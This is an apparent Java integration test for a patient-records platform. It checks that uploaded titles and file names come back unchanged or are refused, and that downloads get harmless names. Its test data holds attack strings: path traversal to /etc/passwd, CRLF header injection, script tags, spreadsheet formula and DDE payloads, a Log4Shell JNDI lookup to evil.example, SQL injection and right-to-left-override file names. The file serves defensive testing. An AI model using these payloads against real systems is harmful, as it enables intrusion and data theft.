package org.jeevan.launcher.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jeevan.launcher.platform.Answer;
import org.jeevan.launcher.platform.OnSharedPlatform;
import org.jeevan.launcher.platform.Refusals;
import org.jeevan.launcher.platform.SampleRecords;
import org.jeevan.launcher.platform.Story;
import org.jeevan.launcher.platform.Story.Patient;
import org.jeevan.launcher.platform.Story.Staff;
import org.jeevan.launcher.platform.Upload;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Titles and file names that would be a path, a header, another extension, markup or a formula somewhere. */
@OnSharedPlatform
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileTitlesIT {

    /** RFC 6266 §4.1 with RFC 8187 §3.2: one attachment, at most a plain and an encoded name. */
    private static final Pattern DISPOSITION = Pattern.compile(
            "attachment; (?:filename=\"[^\"\\\\\r\n]*\"; )?filename\\*=UTF-8''([A-Za-z0-9!#$&+.^_`|~%-]+)");

    private static final byte[] PDF = SampleRecords.pdf();

    private final Story story;
    private Patient patient;
    private Staff hospital;

    HostileTitlesIT(Story story) {
        this.story = story;
    }

    @BeforeAll
    void a_patient_and_a_hospital() {
        patient = story.signUp("Hedda Rao");
        hospital = story.hospital("Heron Hospital");
    }

    static Stream<String> titles() {
        return Stream.of(
                "../../../../etc/passwd",
                "..\\..\\windows\\system32\\drivers\\etc\\hosts",
                "/etc/cron.d/jeevan",
                "C:evil.exe",
                "CON",
                "....",
                "a\"; filename=\"evil.exe",
                "a%22%0d%0aSet-Cookie: b=c",
                "a'; filename*=UTF-8''evil.html",
                "\u0915\u094d\u200d\u0937 \u0c21\u0c3e\u0c15\u0c4d\u0c1f\u0c30\u0c4d\u200c \ud83d\udc69\u200d\u2695\ufe0f",
                "\ud83d\udc89\ud83e\ude7a \u0939\u093f\u0928\u094d\u0926\u0940 \ud800\udf48",
                "<script>alert(1)</script>",
                "=HYPERLINK(\"http://evil.example\",\"x\")",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3",
                "${jndi:ldap://evil.example/a}",
                "'; DROP TABLE records; --",
                "\u212a".repeat(200));
    }

    @ParameterizedTest
    @MethodSource("titles")
    void a_title_comes_back_as_it_was_and_its_download_has_a_harmless_name(String title) {
        Set<Path> before = files();
        String record = hospital.client()
                .upload(patient.id(), Upload.of(fileName(title), PDF).title(title))
                .require(202)
                .text("recordId");
        String path = "/api/v1/patients/%s/records/%s".formatted(patient.id(), record);
        Answer shown = hospital.client().get(path).require(200);
        assertThat(shown.text("title")).isEqualTo(title);
        assertThat(shown.header("Content-Type")).startsWith("application/json");
        assertThat(shown.header("X-Content-Type-Options")).isEqualTo("nosniff");

        Answer content = hospital.client().get(path + "/content").require(200);
        assertThat(content.body()).isEqualTo(PDF);
        assertThat(content.header("Set-Cookie")).isNull();
        Matcher disposition = DISPOSITION.matcher(content.header("Content-Disposition"));
        assertThat(disposition.matches())
                .as(content.header("Content-Disposition"))
                .isTrue();
        assertThat(URLDecoder.decode(disposition.group(1), StandardCharsets.UTF_8))
                .endsWith(".pdf")
                .doesNotStartWith(".")
                .doesNotContainPattern("[/\\\\:*?\"<>|'%${}=@\\p{Cc}\\p{Cf}]");

        Set<Path> added = files();
        added.removeAll(before);
        assertThat(added)
                .as("what is stored is named by chance")
                .allSatisfy(file -> assertThat(file.getFileName().toString()).matches("[0-9a-z._-]+"));
    }

    /** What turns a text around or is not seen is nobody's title. */
    @ParameterizedTest
    @ValueSource(
            strings = {"report\u202efdp.exe", "\u2066report\u200f\u061cfdp.exe", "\ufeffrep\u200bort\u2060fdp.exe"})
    void a_title_is_what_can_be_seen_of_it(String title) {
        String record = hospital.client()
                .upload(patient.id(), Upload.of("a.pdf", PDF).title(title))
                .require(202)
                .text("recordId");
        String path = "/api/v1/patients/%s/records/%s".formatted(patient.id(), record);
        assertThat(hospital.client().get(path).require(200).text("title")).isEqualTo("reportfdp.exe");
    }

    /** Controls, and more than a title is. */
    @ParameterizedTest
    @ValueSource(strings = {"a\u0000.pdf", "a\u001b]0;x\u0007", "a\tb\u0085", "\u007f"})
    void refuses_a_title_with_a_control_character(String title) {
        new Refusals(story.platform()).expect(400, "invalid-field", "title", () -> hospital.client()
                .upload(patient.id(), Upload.of("a.pdf", PDF).title(title)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"../../../../tmp/jeevan-evil.pdf", "..\\evil.pdf", "a\u0000.exe", "\u202efdp.exe", ""})
    void what_a_file_is_called_decides_nothing(String fileName) {
        Answer answer =
                hospital.client().upload(patient.id(), Upload.of(fileName, PDF).title("Letter"));
        assertThat(answer.status()).as(answer.toString()).isIn(202, 400);
        assertThat(Path.of("/tmp/jeevan-evil.pdf")).doesNotExist();
        answer = hospital.client()
                .upload(patient.id(), Upload.of("n".repeat(10_000), PDF).title("Letter"));
        assertThat(answer.status()).as(answer.toString()).isIn(202, 400);
    }

    private Set<Path> files() {
        return new HashSet<>(story.platform().disk().contents());
    }

    private static String fileName(String title) {
        return title.replaceAll("[\"\r\n]", "_");
    }
}
